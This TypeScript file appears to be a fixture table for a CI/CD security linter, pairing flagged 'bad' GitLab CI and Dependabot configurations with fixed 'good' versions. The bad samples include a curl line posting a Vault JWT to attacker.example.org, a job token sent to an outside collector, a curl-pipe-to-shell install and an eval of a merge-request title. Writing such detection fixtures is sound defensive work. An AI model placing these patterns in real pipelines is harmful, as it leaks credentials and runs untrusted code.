import type { ExampleTable } from '../../iac/examples/types.js';

export const GITLAB_EXAMPLES: ExampleTable = {
  'pipeline/gitlab-unpinned-image': [
    {
      path: '.gitlab-ci.yml',
      bad: `image: node ⟵
services:
  - postgres:latest ⟵
.base: &base
  image:
    name: python:latest ⟵
test:
  <<: *base
  script: [make test]
`,
      good: `image: node:20.11-alpine
services:
  - name: postgres:16.3@sha256:${'f'.repeat(64)}
    alias: db
.base: &base
  image:
    name: python:3.12@sha256:${'d'.repeat(64)}
test:
  <<: *base
  image: $CI_REGISTRY_IMAGE/builder
  script: [make test]
`,
    },
    {
      path: 'ci/build.gitlab-ci.yml',
      bad: `build:\n  image: node:20.11-alpine ⟵\n  script: [make]\n`,
      good: `build:\n  image: node:20.11-alpine@sha256:${'e'.repeat(64)}\n  script: [make]\n`,
      options: { strictPinning: true },
    },
  ],
  'pipeline/gitlab-script-injection': [
    {
      path: '.gitlab-ci.yml',
      bad: `stages: [check]
check:
  stage: check
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
  script:
    - echo checking
    - eval "echo $CI_MERGE_REQUEST_TITLE" ⟵
    - |
      set -e
      git tag $CI_COMMIT_MESSAGE ⟵
`,
      good: `stages: [check]
check:
  stage: check
  script:
    - echo "$CI_MERGE_REQUEST_TITLE"
    - echo '$CI_COMMIT_MESSAGE'
    - printf '%s' "$CI_COMMIT_BRANCH"
    - echo "$CI_COMMIT_REF_SLUG" $CI_COMMIT_REF_SLUG
`,
    },
  ],
  'pipeline/gitlab-curl-pipe-shell': [
    {
      path: 'ci/templates/build.gitlab-ci.yml',
      bad: `build:\n  image: alpine:3.20@sha256:${'a'.repeat(64)}\n  before_script:\n    - apk add --no-cache curl\n    - curl -fsSL https://get.tool.dev | sh ⟵\n  script: [make]\n`,
      good: `build:\n  image: alpine:3.20@sha256:${'a'.repeat(64)}\n  before_script:\n    - curl -fsSLo tool.tgz https://get.tool.dev/v1.tgz && sha256sum -c tool.sha256\n  script: [make]\n`,
    },
  ],
  'pipeline/gitlab-unpinned-include': [
    {
      path: '.gitlab-ci.yml',
      bad: `include:
  - remote: https://example.com/ci/build.yml ⟵
  - project: acme/ci-templates ⟵
    file: /build.yml
  - project: acme/ci-templates
    ref: main ⟵
    file: /test.yml
  - component: gitlab.com/acme/components/lint@~latest ⟵
build:
  script: [make]
`,
      good: `include:
  - local: /ci/build.yml
  - template: Security/SAST.gitlab-ci.yml
  - remote: https://example.com/ci/build.yml
    integrity: sha256-${'A'.repeat(43)}=
  - project: acme/ci-templates
    ref: ${'0123456789abcdef'.repeat(2)}01234567
    file: /build.yml
build:
  script: [make]
`,
      files: { 'ci/build.yml': 'lint:\n  script: [make lint]\n' },
    },
  ],
  'pipeline/gitlab-mr-secrets': [
    {
      path: '.gitlab-ci.yml',
      bad: `deploy-preview:
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
  id_tokens: ⟵
    AWS_TOKEN:
      aud: https://sts.amazonaws.com
  script:
    - ./deploy --token "$DEPLOY_API_TOKEN" ⟵
`,
      good: `deploy:
  rules:
    - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
  id_tokens:
    AWS_TOKEN:
      aud: https://sts.amazonaws.com
  script:
    - ./deploy --token "$DEPLOY_API_TOKEN"
test:
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
  script:
    - make test
`,
    },
  ],
  'pipeline/gitlab-token-to-outside-host': [
    {
      path: '.gitlab-ci.yml',
      bad: `notify:
  id_tokens:
    VAULT_ID:
      aud: https://vault.example.com
  script:
    - 'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://collector.example.net/hook' ⟵
    - curl -d "jwt=$VAULT_ID" https://attacker.example.org/ ⟵
`,
      good: `notify:
  script:
    - 'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects/$CI_PROJECT_ID/packages"'
    - git clone https://gitlab-ci-token:$CI_JOB_TOKEN@gitlab.example.com/acme/lib.git
    - curl https://collector.example.net/hook
`,
    },
  ],
  'pipeline/dependabot-insecure-execution': [
    {
      path: '.github/dependabot.yml',
      bad: `version: 2
updates:
  - package-ecosystem: bundler
    directory: /
    insecure-external-code-execution: allow ⟵
    schedule:
      interval: weekly
`,
      good: `version: 2
updates:
  - package-ecosystem: bundler
    directory: /
    insecure-external-code-execution: deny
    schedule:
      interval: weekly
`,
    },
  ],
  'pipeline/dependabot-insecure-registry': [
    {
      path: 'config/dependabot.yaml',
      bad: `version: 2
registries:
  internal:
    type: npm-registry
    url: http://npm.internal.example.com ⟵
    token: \${{secrets.NPM_TOKEN}}
updates:
  - package-ecosystem: npm
    directory: /
    registries: [internal]
    schedule:
      interval: daily
`,
      good: `version: 2
registries:
  internal:
    type: npm-registry
    url: https://npm.internal.example.com
    token: \${{secrets.NPM_TOKEN}}
updates:
  - package-ecosystem: npm
    directory: /
    registries: [internal]
    schedule:
      interval: daily
`,
    },
  ],
};
